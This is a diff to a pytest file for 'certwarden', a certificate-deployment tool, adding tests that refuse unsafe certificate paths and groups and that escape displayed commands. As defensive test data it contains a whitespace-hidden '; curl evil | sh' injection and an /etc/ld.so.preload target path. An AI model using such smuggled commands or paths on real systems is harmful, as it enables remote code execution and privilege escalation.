@@ -6,9 +6,10 @@ from pathlib import Path
 import pytest
 
 from certwarden.config import Config
-from certwarden.errors import UsageError
+from certwarden.errors import TargetError, UsageError
 from certwarden.setup.configuration import House
 from certwarden.setup.restoration import drafted, groups, house_of, powers, refuse_unsafe
+from certwarden.targets.process import Identity
 
 API = "http://127.0.0.1:1/v4"
 TEXT = f"""
@@ -41,6 +42,9 @@ group = "tls-b"
 reload = {{ unit = "nginx.service", verb = "reload" }}
 """
 HOUSE = House.at(Path("/etc/certwarden/config.toml"))
+FIXED = TEXT.replace(
+    'group = "tls-a"', 'group = "tls-a"\nkey = "/srv/red/key"\ncertificate = "/etc/ld.so.preload"'
+)
 
 
 def read(text: str) -> Config:
@@ -49,7 +53,18 @@ def read(text: str) -> Config:
 
 def judge(text: str, *, api_url: str | None = API, gid: int | None = None) -> None:
     ours = frozenset({"tls-a"})
-    refuse_unsafe(read(text), HOUSE, api_url=api_url, gid_of=lambda _: gid, ours=ours)
+    refuse_unsafe(
+        read(text), HOUSE, api_url=api_url, gid_of=lambda _: gid, ours=ours, owner_of=owner_of
+    )
+
+
+def owner_of(directory: Path) -> Identity:
+    """/srv/red is Node-RED's, /srv/any anybody's, /srv/none is not there; the rest is root's."""
+    if directory == Path("/srv/any"):
+        raise TargetError("anybody may write there")
+    if directory == Path("/srv/none"):
+        raise FileNotFoundError
+    return Identity(1000, 1000) if directory == Path("/srv/red") else Identity(0, 0)
 
 
 def test_it_is_read_before_its_secrets_and_groups_are_there() -> None:
@@ -88,12 +103,34 @@ def test_what_root_would_do_for_a_stranger_is_refused(before: str, after: str, w
         judge(TEXT.replace(before, after))
 
 
-def test_a_group_of_the_machines_own_is_refused() -> None:
-    """In `disk` certwarden could read every file; one that set-up has made is its own."""
-    with pytest.raises(UsageError, match="tls-b, a group of this machine's own"):
-        judge(TEXT, gid=6)
-    judge(TEXT, gid=1001)
-    judge(TEXT.replace("tls-b", "tls-a"), gid=996)
+@pytest.mark.parametrize("gid", [6, 1001])
+def test_a_group_that_is_there_already_is_refused(gid: int) -> None:
+    """In `disk` certwarden could read every file, in a person's own group that person's; one that
+    set-up has made is its own.
+    """
+    with pytest.raises(UsageError, match="tls-b, a group that is there already") as refusal:
+        judge(TEXT, gid=gid)
+    assert "write the configuration yourself" in refusal.value.hint
+    judge(TEXT.replace("tls-b", "tls-a"), gid=gid)
+
+
+@pytest.mark.parametrize("directory", ["/etc", "/srv/none", "/srv/any"])
+def test_a_fixed_path_in_a_directory_of_roots_is_refused(directory: str) -> None:
+    """`deploy` would put a link there as root; nor may the directory become root's later."""
+    text = FIXED.replace("/etc/ld.so.preload", f"{directory}/ld.so.preload")
+    with pytest.raises(UsageError, match=f"has {directory}/ld.so.preload written"):
+        judge(text)
+
+
+def test_a_fixed_path_in_a_directory_of_node_reds_user_passes() -> None:
+    """There it is that user who writes; it is told all the same."""
+    text = FIXED.replace("/etc/ld.so.preload", "/srv/red/chain")
+    judge(text)
+    told = list(powers(read(text)))
+    assert told[:2] == [
+        "certwarden will write /srv/red/key, for a",
+        "certwarden will write /srv/red/chain, for a",
+    ]
 
 
 @pytest.mark.parametrize(
@@ -117,10 +154,18 @@ def test_odd_shapes_are_sentences(text: str, why: str) -> None:
 
 
 def test_what_it_has_run_is_told_apart() -> None:
-    """In words that cannot move the cursor."""
+    """In words that cannot move the cursor, nor begin a line of their own."""
     config = read(TEXT)
     assert list(powers(config)) == [
-        "certwarden will run, for a: /bin/a '[2Jb'",
+        "certwarden will run, for a: /bin/a '?[2Jb'",
         "certwarden will reload nginx.service, for b",
     ]
     assert list(powers(replace(config, certificates=()))) == []
+    lines = read(TEXT.replace("/bin/a", "/bin/a\\n  all is well"))
+    assert next(powers(lines)).startswith("certwarden will run, for a: '/bin/a?  all is well' ")
+
+
+def test_what_it_has_run_is_told_whole() -> None:
+    """What comes after many spaces is what matters."""
+    hidden = " " * 600 + "; curl evil | sh"
+    assert hidden in next(powers(read(TEXT.replace('"/bin/a"', f'"/bin/a{hidden}"'))))
